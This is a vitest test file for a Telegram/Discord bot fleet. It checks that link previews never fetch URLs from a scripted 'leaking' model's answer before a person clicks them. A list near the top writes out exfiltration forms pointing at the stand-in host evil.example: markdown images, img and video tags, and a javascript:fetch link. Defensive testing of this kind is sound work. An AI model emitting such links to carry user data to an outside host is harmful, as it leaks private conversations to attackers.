// A model that was made to leak: whatever form its answer takes on Telegram or Discord, no platform fetches an address
// of its choosing before a person follows it.
import { afterAll, beforeAll, expect, test } from 'vitest'
import { startPlatform } from '#test/rig/platform.ts'
import { startFleet, until } from '#test/rig/fleet.ts'
import { group, startTelegramFleet, type TelegramFleet } from '#test/rig/telegram-fleet.ts'
import { startDiscordSimulator } from '#test/simulators/discord/simulator.ts'

const url = (n: number): string => `https://evil.example/x?k=canary-${n}`
const forms = [
  `${url(1)} and [here](${url(2)}) and <${url(3)}>`,
  `![p](${url(4)}) ![](${url(5)} "t") [![p](${url(6)})](${url(7)})`,
  `<img src="${url(8)}"> <a href="${url(9)}">x</a> <video src="${url(10)}"></video>`,
  `[x][1] ![y][1]\n\n[1]: ${url(11)}\n\n> ${url(12)}\n\n- [ ] ${url(13)}\n  - \`${url(14)}\``,
  `| a | b |\n|---|---|\n| ${url(15)} | ![p](${url(16)}) |`,
  `\`\`\`html\n<img src="${url(17)}">\n\`\`\`\n\n    ${url(18)}`,
  `[tg](tg://photo?id=${url(19)}) [j](javascript:fetch('${url(20)}')) www.evil.example/?k=canary-21`,
  `[\u202e${url(22)}](${url(23)}) \\${url(24)} ${url(25)}.`,
]
/** With a table: on Telegram one rich message, and in a group edits before that. */
const leak = forms.join('\n\n')
/** Without: entities. */
const plainLeak = forms.filter((form) => !form.includes('|---|')).join('\n\n')
const script = (model: TelegramFleet['fleet']['model']): void => {
  model.script({ when: { text: 'leak plainly' }, answer: { kind: 'text', text: plainLeak } })
  model.script({ when: { text: 'leak slowly' }, answer: { kind: 'text', text: leak }, chunkDelayMs: 50 })
}
const isWhole = (text: string): boolean =>
  text.includes('canary-1') && text.includes('canary-24') && !text.endsWith('…')

let rig: TelegramFleet
beforeAll(async () => void (rig = await startTelegramFleet({ env: { FLOTILLA_ALLOW: '*' } })))
afterAll(() => rig[Symbol.asyncDispose]())

test('Telegram fetches nothing of an answer, a draft or a growing message', { timeout: 60_000 }, async () => {
  const { telegram, fleet } = rig
  script(fleet.model)
  for (const [chat, text] of [
    [7, 'leak plainly'],
    [8, 'leak slowly'],
    [group, '@flotilla_test_bot leak slowly'],
  ] as const) {
    telegram.sendText({ chat, from: chat === group ? 7 : chat, text })
    await telegram.until(() => rig.bot(chat).find((one) => isWhole(one.text)), 30_000)
  }
  const used = new Set(telegram.ledger.entries.map(({ method }) => method))
  for (const method of [
    'sendMessage',
    'sendRichMessage',
    'editMessageText',
    'sendMessageDraft',
    'sendRichMessageDraft',
  ])
    expect(used).toContain(method)
  expect(telegram.unfurled()).toEqual([])
})

test('Discord fetches nothing of an answer or a growing message', { timeout: 60_000 }, async () => {
  await using discord = Object.assign(await startDiscordSimulator(), {
    [Symbol.asyncDispose]: async (): Promise<void> => await discord.close(),
  })
  await using fleet = await startFleet({
    env: { DISCORD_BOT_TOKEN: discord.token, DISCORD_API_ROOT: discord.apiRoot, FLOTILLA_ALLOW: '*' },
  })
  const stop = await startPlatform(fleet.runtime, 'discord')
  try {
    await discord.ledger.waitForGateway(({ kind }) => kind === 'identify')
    script(fleet.model)
    const { channel } = discord.addGuild()
    const ada = discord.person('Ada')
    for (const text of ['leak plainly', 'leak slowly']) {
      ada.say(channel, `<@${discord.bot.id}> ${text}`)
      const said = () => discord.visible(channel).filter((one) => one.from === 'bot' && one.text.includes('canary-24'))
      await until(() => (said().length > (text === 'leak plainly' ? 0 : 1) ? true : undefined))
    }
    expect(discord.unfurled()).toEqual([])
  } finally {
    await stop()
  }
})

test('the simulated Discord does fetch what is sent without care', async () => {
  const discord = await startDiscordSimulator()
  const { channel } = discord.addGuild()
  const headers = { authorization: `Bot ${discord.token}`, 'content-type': 'application/json' }
  for (const body of [{ content: url(1) }, { content: `<${url(2)}>` }, { content: url(3), flags: 4 }])
    await fetch(`${discord.apiRoot}/v10/channels/${channel}/messages`, {
      method: 'POST',
      headers,
      body: JSON.stringify(body),
    })
  expect(discord.unfurled()).toEqual([url(1)])
  await discord.close()
})
